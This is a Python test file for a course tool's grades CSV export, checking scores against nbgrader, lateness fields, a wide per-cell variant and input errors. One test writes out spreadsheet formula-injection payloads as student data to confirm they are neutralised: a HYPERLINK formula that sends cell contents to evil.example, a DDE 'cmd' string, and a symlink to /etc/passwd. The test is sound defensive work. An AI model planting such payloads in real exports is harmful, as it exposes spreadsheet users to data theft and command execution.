"""The grades CSV: rows, values, nbgrader compatibility, the wide variant and bad input."""

import csv
import json

import pytest
from nbgrader.api import Gradebook
from nbgrader.plugins.export import CsvExportPlugin
from outputs_course import (
    ASSIGNMENT,
    FREE_RESPONSE,
    MAX_SCORE,
    STUDENTS,
    TESTS,
    assert_no_secrets,
    expected_raw_score,
    points,
    results_payload,
)

from convcourse.instructor.grading.batch import read_submission
from convcourse.instructor.reporting.export import (
    EXTRA_COLUMNS,
    NBGRADER_COLUMNS,
    export_grades,
    spreadsheet_safe,
)

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")


def read_csv(path):
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture
def rows(course):
    out = export_grades(course.path, course.path / "grades.csv")
    assert out == course.path / "grades.csv"
    return {r["student_id"]: r for r in read_csv(out)}


def test_one_row_per_student_in_stable_order(course, rows):
    # every gradebook student, plus grace who has a results file but no gradebook entry
    assert list(rows) == sorted(STUDENTS)
    header = next(csv.reader(open(course.path / "grades.csv", encoding="utf-8")))
    assert header == list(NBGRADER_COLUMNS + EXTRA_COLUMNS)
    assert {r["assignment"] for r in rows.values()} == {ASSIGNMENT}


def test_values(rows):
    for sid, s in STUDENTS.items():
        row = rows[sid]
        assert float(row["max_score"]) == MAX_SCORE
        if not s.submitted:
            assert row["status"] == "not_submitted" and float(row["score"]) == 0.0
            assert row["timestamp"] == ""
            continue
        raw = expected_raw_score(sid) if s.in_gradebook else 0.0
        assert float(row["raw_score"]) == raw
        assert float(row["late_submission_penalty"]) == s.late_penalty
        assert float(row["score"]) == max(0.0, raw - s.late_penalty)
        if s.in_gradebook:
            assert float(row["auto_score"]) == sum(points(sid).values())
        assert row["manual_score"] == ("" if s.manual is None else f"{s.manual:g}")
        expected_status = "unreadable" if s.results == "broken" else s.status
        assert row["status"] == expected_status
        if s.status_detail:
            assert row["status_detail"] == s.status_detail
        if s.results == "json":
            assert float(row["duration_s"]) == s.duration_s
    assert rows["alice"]["last_name"] == "Ångström"
    assert rows["alice"]["email"] == "alice@example.org"
    assert rows["carol"]["timestamp"] == "2026-11-20T14:00:00+00:00"
    assert float(rows["carol"]["seconds_late"]) == 2 * 3600  # due 12:00, handed in 14:00
    assert rows["bob"]["needs_manual_grade"] == "yes"
    assert rows["alice"]["needs_manual_grade"] == "no"
    assert "Expecting property name" in rows["frank"]["status_detail"]


def test_scores_agree_with_nbgrader(course, rows, tmp_path):
    """Same students and numbers as ``nbgrader export`` on the same gradebook."""
    theirs_path = tmp_path / "nbgrader.csv"
    plugin = CsvExportPlugin()
    plugin.to = str(theirs_path)
    gb = Gradebook(course.db_url, course_id="convcourse")
    try:
        plugin.export(gb)
        by_gradebook = {
            sid: gb.find_submission(ASSIGNMENT, sid).score
            for sid, s in STUDENTS.items()
            if s.submitted and s.in_gradebook
        }
    finally:
        gb.close()
        gb.engine.dispose()
    theirs = {r["student_id"]: r for r in read_csv(theirs_path)}
    assert set(theirs) == set(rows) - {"grace"}  # grace is not in the gradebook
    for sid, r in theirs.items():
        for col in ("raw_score", "late_submission_penalty", "score", "max_score"):
            assert float(rows[sid][col]) == float(r[col]), (sid, col)
        for col in ("assignment", "student_id", "last_name", "first_name", "email"):
            assert rows[sid][col] == r[col].replace("None", ""), (sid, col)
    for sid, score in by_gradebook.items():
        assert float(rows[sid]["raw_score"]) == score


def test_wide_variant_has_points_per_cell(course):
    out = export_grades(course.path, course.path / "wide.csv", ASSIGNMENT, wide=True)
    rows = {r["student_id"]: r for r in read_csv(out)}
    cells = [gid for gid, _, _ in TESTS] + [FREE_RESPONSE[0]]
    assert list(rows["alice"])[-len(cells) :] == [f"points:{gid}" for gid in cells]
    for sid in ("alice", "bob", "carol"):
        for gid, value in points(sid).items():
            assert float(rows[sid][f"points:{gid}"]) == value
    assert float(rows["alice"][f"points:{FREE_RESPONSE[0]}"]) == STUDENTS["alice"].manual
    assert float(rows["dave"]["points:test-corr2d"]) == 0.0  # nothing handed in
    assert rows["grace"]["points:test-corr2d"] == ""  # no such cell in her results


def test_the_command_line_writes_the_wide_variant_the_readme_shows(course, capsys):
    from convcourse.instructor.cli import main

    out = course.path / "grades.csv"
    argv = ["export", "--course", str(course.path), "--db", course.db_url, "--out", str(out)]
    assert main([*argv, "--assignment", ASSIGNMENT, "--wide"]) == 0
    assert capsys.readouterr().out.strip() == str(out)
    wide = export_grades(course.path, course.path / "w.csv", ASSIGNMENT, wide=True)
    assert out.read_bytes() == wide.read_bytes()
    assert main(argv) == 0  # without --wide: no per-cell column
    assert not any(c.startswith("points:") for c in next(csv.reader(open(out, encoding="utf-8"))))


def test_all_assignments_and_students_without_submissions(course):
    gb = Gradebook(course.db_url, course_id="convcourse")
    try:
        gb.add_assignment("01_first")  # no due date: sorts after the dated 02_demo
    finally:
        gb.close()
        gb.engine.dispose()
    rows = read_csv(export_grades(course.path, course.path / "all.csv"))
    gradebook_students = sorted(sid for sid, s in STUDENTS.items() if s.in_gradebook)
    first = [r for r in rows if r["assignment"] == "01_first"]
    assert [r["student_id"] for r in first] == gradebook_students
    assert {r["status"] for r in first} == {"not_submitted"}
    assert [r["assignment"] for r in rows] == [ASSIGNMENT] * len(STUDENTS) + ["01_first"] * len(
        gradebook_students
    )


def test_no_secrets_in_csv(course):
    assert_no_secrets([export_grades(course.path, course.path / "g.csv", wide=True)])


def test_bad_input(course, tmp_path):
    with pytest.raises(ValueError, match="unknown assignment '03_x'; the gradebook has: 02_demo"):
        export_grades(course.path, tmp_path / "g.csv", "03_x")
    with pytest.raises(FileNotFoundError, match="output folder does not exist"):
        export_grades(course.path, tmp_path / "missing" / "g.csv")
    with pytest.raises(IsADirectoryError, match="output path is a directory"):
        export_grades(course.path, tmp_path)
    with pytest.raises(FileNotFoundError, match="course directory not found"):
        export_grades(tmp_path / "nowhere", tmp_path / "g.csv")
    with pytest.raises(FileNotFoundError, match="gradebook not found"):
        export_grades(tmp_path, tmp_path / "g.csv")
    (tmp_path / "gradebook.db").write_bytes(b"")
    with pytest.raises(ValueError, match="not an nbgrader gradebook"):
        export_grades(tmp_path, tmp_path / "g.csv")
    assert not (tmp_path / "g.csv").exists()


def _set_results(course, sid, **fields):
    path = course.path / ".grading" / "results" / ASSIGNMENT / f"{sid}.json"
    data = json.loads(path.read_text(encoding="utf-8")) if path.exists() else {}
    data.update(fields)
    path.write_text(json.dumps(data), encoding="utf-8")


def test_lateness_is_what_is_known_never_a_made_up_zero(course):
    gb = Gradebook(course.db_url, course_id="convcourse")
    try:
        gb.update_or_create_student("zed", first_name="Zed")
        gb.add_submission(ASSIGNMENT, "zed")  # handed in, but no time is known
    finally:
        gb.close()
        gb.engine.dispose()
    _set_results(course, "alice", late=True, timestamp_source="lms")
    _set_results(course, "zed", **results_payload("zed", STUDENTS["bob"]), late=True)
    rows = {r["student_id"]: r for r in read_csv(export_grades(course.path, course.path / "g.csv"))}
    # nbgrader's seconds_late where due date and time are known; the LMS's flag when it has one
    assert (rows["carol"]["seconds_late"], rows["carol"]["late"]) == ("7200.0", "yes")
    assert (rows["bob"]["seconds_late"], rows["bob"]["late"]) == ("0.0", "no")
    assert (rows["alice"]["seconds_late"], rows["alice"]["late"]) == ("0.0", "yes")
    assert rows["alice"]["timestamp_source"] == "lms" and rows["bob"]["timestamp_source"] == ""
    # Only the flag is known: it is shown, and seconds_late stays empty rather than 0.
    assert (rows["zed"]["timestamp"], rows["zed"]["seconds_late"], rows["zed"]["late"]) == (
        "",
        "",
        "yes",
    )
    assert (rows["dave"]["seconds_late"], rows["dave"]["late"]) == ("", "")  # nothing handed in


def test_cells_a_spreadsheet_would_run_are_neutralised(course, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
    # The audit's case: a file of that name in a submission folder, noted by the grader.
    folder = tmp_path / "submitted" / "mallory" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / formula.replace("/", "_")).symlink_to("/etc/passwd")
    notes = read_submission(folder)[2]
    assert notes[0].startswith("=HYPERLINK(")
    gb = Gradebook(course.db_url, course_id="convcourse")
    try:
        gb.update_or_create_student(
            "mallory", first_name="+cmd|' /C calc'!A0", last_name="-2+3", email="@SUM(A1:A9)"
        )
    finally:
        gb.close()
        gb.engine.dispose()
    _set_results(course, "mallory", **results_payload("mallory", STUDENTS["bob"]))
    _set_results(course, "mallory", status_detail="; ".join(notes))
    _set_results(course, "eve", status_detail="\tx", status="\r=1+1")
    out = export_grades(course.path, course.path / "g.csv", wide=True)
    rows = {r["student_id"]: r for r in read_csv(out)}
    row = rows["mallory"]
    assert row["first_name"] == "'+cmd|' /C calc'!A0"
    assert row["last_name"] == "'-2+3" and row["email"] == "'@SUM(A1:A9)"
    assert row["status_detail"] == "'" + notes[0]
    assert (rows["eve"]["status_detail"], rows["eve"]["status"]) == ("'\tx", "'\r=1+1")
    # Numbers, ids, times and nbgrader's columns read as before.
    assert float(row["raw_score"]) == float(rows["bob"]["raw_score"])
    assert rows["carol"]["timestamp"] == "2026-11-20T14:00:00+00:00"
    every_cell = [v for r in rows.values() for v in r.values()]
    assert not [v for v in every_cell if v and v[0] in "=+-@\t\r" and not _is_number(v)]


def test_spreadsheet_safe_keeps_numbers():
    assert [spreadsheet_safe(v) for v in ("-0.5", "+3", "1e-3", "-", "- 1", " =1", "", None)] == [
        "-0.5",
        "+3",
        "1e-3",
        "'-",
        "'- 1",
        "' =1",
        "",
        "",
    ]


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True
